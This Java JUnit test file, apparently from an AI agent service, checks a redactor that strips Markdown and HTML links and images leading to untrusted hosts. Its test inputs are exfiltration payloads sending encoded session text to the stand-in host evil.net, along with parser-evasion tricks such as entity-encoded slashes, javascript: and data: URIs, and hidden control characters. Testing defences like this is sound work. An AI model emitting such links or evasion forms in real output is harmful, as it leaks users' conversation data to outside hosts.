package dev.agentservice.guard.redact.link;

import java.util.List;

import dev.agentservice.guard.redact.Redactors;
import dev.agentservice.guard.redact.finding.RedactionPolicy;
import dev.agentservice.guard.redact.stage.Cuts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Where a link or an image ends, and what it may carry at most. In the texts {@code DATA}
 * is what nobody may take away, and {@code /} between spaces the end of a line.
 */
class LinkSyntaxTests {

	private static final String DATA = "d2hhdCB0aGUgdXNlciBzYWlkIGluIHRoaXMgc2Vzc2lvbg";

	/** Three labels, of words, so that only their length counts. */
	private static final String WOODS = "wood".repeat(8) + "." + "wood".repeat(8) + "." + "wood".repeat(6);

	private static final Redactors REDACTORS = Redactors
		.of(RedactionPolicy.standard().trusting("docs.example.com", "*.cdn.example.com"));

	@ParameterizedTest
	@CsvSource(delimiterString = "=>", quoteCharacter = '`', textBlock = """
			<img alt='a > b' src=//evil.net/x> c          => (content to evil.net removed) c
			<img alt=it's src=//evil.net/x>, isn't it>    => (content to evil.net removed), isn't it>
			<img "a>b" src=//evil.net/x> c                => (content to evil.net removed) c
			<img title="it's" src=//evil.net/x> isn't >   => (content to evil.net removed) isn't >
			<img/src=//evil.net/x> c                      => (content to evil.net removed) c
			<blockquote cite=//evil.net/x> c              => (content to evil.net removed) c
			<h1 style=url(//evil.net/x)> c                => (content to evil.net removed) c
			<area href=//evil.net/?DATA> c                => (link to evil.net removed) c
			<a href=//evil.net/?DATA                      => (link to evil.net removed)""")
	void aTagEndsBehindItsQuotedValues(String text, String left) {
		assertLeft(text, left);
	}

	@ParameterizedTest
	@CsvSource(delimiterString = "=>", quoteCharacter = '`', textBlock = """
			[a](//evil.net/?DATA 'b') c                   => [a] (link to evil.net removed) c
			[a]( / //evil.net/?DATA / 'b') c              => [a] (link to evil.net removed) c
			[a](//evil.net/?DATA ") ") c                  => [a] (link to evil.net removed) c
			[a](//evil.net/?DATA ') ') c                  => [a] (link to evil.net removed) c
			[a](//evil.net/?DATA "b' ) ") c               => [a] (link to evil.net removed) c
			[a](//evil.net/?DATA'b) c') d                 => [a] (link to evil.net removed) c') d
			[a](//evil.net/\\"?DATA) b") c                => [a] (link to evil.net removed) b") c
			[a](//evil.net/(a(b)c)?DATA) d                => [a] (link to evil.net removed) d
			[a](//evil.net/\\)?DATA) d                    => [a] (link to evil.net removed) d
			[a](<//evil.net/?q=DATA) b>) c                => [a] (link to evil.net removed) c
			[a]( <//evil.net/?q=DATA) b>) c               => [a] (link to evil.net removed) c
			[a](<//evil.net/?the user (said that he would) never do this> 'd') e => [a] (link to evil.net removed) e
			[a](//evil.net/?DATA                          => [a] (link to evil.net removed)
			[a](<//evil.net/?DATA                         => [a] (link to evil.net removed)
			![a](<//evil.net/x                            => a (image to evil.net removed)
			![a](//evil.net/x "t                          => a (image to evil.net removed)
			[a](b /  / [c](//evil.net/?DATA) d             => [a] (b /  / [c] (link to evil.net removed) d
			[a](b [c](d /  / e)                            => [a] (b [c] (d /  / e)
			[a](b<c) d>) e                                => [a](b< c) d>) e""")
	void aDestinationEndsWithItsBracketUnlessThatIsEscapedOrQuoted(String text, String left) {
		assertLeft(text, left);
	}

	@ParameterizedTest
	@CsvSource(delimiterString = "=>", quoteCharacter = '`', textBlock = """
			[r]: <//evil.net/?the user said that he would never do this> x   => [r]: (link to evil.net removed) x
			[r]: <//evil.net/?the user said [x] that he would never do so> x => [r]: (link to evil.net removed) x
			[r]: <//evil.net/?the user said that he would never do this / x  => [r]: (link to evil.net removed) / x
			[r]: / //evil.net/?DATA x                     => [r]: (link to evil.net removed) x
			[r]: //evil.net/?DATA /  / x                   => [r]: (link to evil.net removed) /  / x
			[r]: ![c](//evil.net/x)                       => [r]: c (image to evil.net removed)
			[r]: ][c](//evil.net/?DATA)                   => [r]: ][c] (link to evil.net removed)
			[r]: b<img src=//evil.net/x>                  => [r]: b(content to evil.net removed)""")
	void aDefinitionEndsWithWhiteSpaceOrWhereSomethingElseBegins(String text, String left) {
		assertLeft(text, left);
	}

	@ParameterizedTest
	@ValueSource(strings = { "[a](x <//evil.net/?DATA) b>) c", "[a](//evil.net/\\\\) d) e",
			"<blockquoted cite=//evil.net/x> c", "<1a style=url(//evil.net/x)> c", "<foo src=\"//evil.net/x\"> c",
			"<a href=//evil.net/x> c", "![a](//docs.example.com/x)", "![a](ftp://docs.example.com/x)",
			"![a](https://docs.example.com:8443/x)", "[a](/&#x110000;/evil.net/?DATA)",
			"[a](&unknown;//evil.net/?DATA)" })
	void whatNoViewerFollowsOrEverybodyTrustsStays(String text) {
		assertLeft(text, text);
	}

	@ParameterizedTest
	@CsvSource(delimiterString = "=>", quoteCharacter = '`', textBlock = """
			![a](https://cdn.example.com/x)               => a (image to cdn.example.com removed)
			![a](https://evilcdn.example.com/x)           => a (image to evilcdn.example.com removed)
			![a](ftp://evil.net/x)                        => a (image to evil.net removed)
			![a](https://www.evil.net/x)                  => a (image to evil.net removed)
			![a](javascript://docs.example.com/%0ax())    => a (image removed)
			![a](data:text/html,x)                        => a (image removed)
			[a](&#x2F;&sol;evil.net/?DATA)                => [a] (link to evil.net removed)
			[a](&#47&#x2f;evil.net/?DATA)                 => [a] (link to evil.net removed)
			(see https://evil.net/?DATA)                  => (see [link])
			https://evil.net/?DATA!?'*_~;:,.              => [link]!?'*_~;:,.
			https://x.example.org/y https://evil.net/?DATA => https://x.example.org/y [link]
			[r]: /  / //evil.net/?DATA                    => [r]: /  / [link]
			[a](<b / //evil.net/?DATA) c) d               => [a](<b / [link]) c) d""")
	void whereItLeadsIsReadAsBrowsersReadIt(String text, String left) {
		assertLeft(text, left);
	}

	@Test
	void controlCharactersInsideOfADestinationHideNothing() {
		assertLeft("![a](<ht\tt\u0001ps://evil.net/x>)", "a (image to evil.net removed)");
	}

	@Test
	void aLinkMayCarryAFewCharactersAndNotOneMore() {
		for (String most : List.of("https://x.net/?" + "x".repeat(40), "https://x.net/" + "x".repeat(40),
				"https://x.net" + "/wor".repeat(64), "https://x.net/" + "%61b".repeat(5) + "/c",
				"https://" + "x".repeat(32) + ".net/", "https://" + WOODS + ".xx.ne/")) {
			assertLeft(most, most);
		}
		for (String more : List.of("https://x.net/?" + "x".repeat(41), "https://x.net/" + "x".repeat(41),
				"https://x.net" + "/wor".repeat(64) + "d", "https://x.net/" + "%61b".repeat(6) + "/c",
				"https://" + "x".repeat(33) + ".net/", "https://" + WOODS + ".xxx.ne/",
				"https://" + "x".repeat(20) + "@x.net/?" + "x".repeat(21))) {
			assertLeft(more, "[link]");
		}
	}

	@Test
	void whatIsTooLongIsDroppedUntilItEndsIfItLeadsAway() {
		String endless = "x".repeat(5000);
		assertLeft("<img src=//evil.net/" + endless + "> b", "(content to evil.net removed) b");
		assertLeft("[r]: <https://evil.net/?q=" + endless + ") c> \nb", "[r]: (link to evil.net removed)b");
		assertLeft("[a](/" + endless + ") b", "[a] ([overlong]) b");
		assertLeft("<img alt=" + endless + " src=//evil.net/x> b", "< img [overlong] src=//evil.net/x> b");
	}

	@Test
	void theTextOfAnImageIsWaitedForAsLongAsIsUsual() {
		String text = "b".repeat(999);
		assertLeft("![" + text + "](//evil.net/x)", text + " (image to evil.net removed)");
		assertLeft("![" + text + "b](//docs.example.com/x)", "! [" + text + "b](//docs.example.com/x)");
	}

	private static void assertLeft(String text, String left) {
		assertThat(REDACTORS.redact(lines(text)).content()).isEqualTo(lines(left));
		if (text.length() < 200) {
			Cuts.assertSameHoweverCut(REDACTORS, lines(text));
		}
	}

	private static String lines(String text) {
		return text.replace(" / ", "\n").replace("DATA", DATA);
	}

}
